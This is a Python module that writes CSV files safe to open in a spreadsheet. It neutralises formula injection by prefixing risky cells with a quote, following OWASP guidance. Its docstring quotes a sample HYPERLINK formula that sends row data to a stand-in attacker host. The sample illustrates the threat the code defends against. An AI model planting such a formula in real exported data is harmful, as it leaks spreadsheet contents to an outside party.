"""CSV that opens safely in a spreadsheet: cells cannot be formulas (CSV injection).

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula
by Excel, LibreOffice and Google Sheets: an employee named
`=HYPERLINK("http://evil.example/?x="&A1,"click")` becomes a live link that leaks the row.
Per the OWASP guidance (https://owasp.org/www-community/attacks/CSV_Injection) such a cell
is prefixed with a single quote, which spreadsheets show as text and never evaluate. A
plain number (`-1.5`, `+3`) is left alone: it is data, not a formula. Every CSV Strata
writes goes through `csv_writer` (or `safe_cell` for a hand-made row).
"""

import csv
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, TextIO

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """`value`, with a leading `'` if it is text a spreadsheet would run as a formula."""
    formula = isinstance(value, str) and value.startswith(FORMULA_PREFIXES)
    if formula and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeDictWriter(csv.DictWriter):  # type: ignore[type-arg]
    """`csv.DictWriter` whose every cell (header included) goes through `safe_cell`."""

    def writeheader(self) -> Any:
        return self.writer.writerow([safe_cell(name) for name in self.fieldnames])

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: safe_cell(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)


def csv_writer(buffer: TextIO, fieldnames: Sequence[str]) -> SafeDictWriter:
    """The one way Strata writes CSV: RFC 4180 (CRLF between records, so a field holding
    a CR or LF is always quoted and cannot split its row) with formulas neutralised."""
    return SafeDictWriter(buffer, fieldnames=list(fieldnames), lineterminator="\r\n")
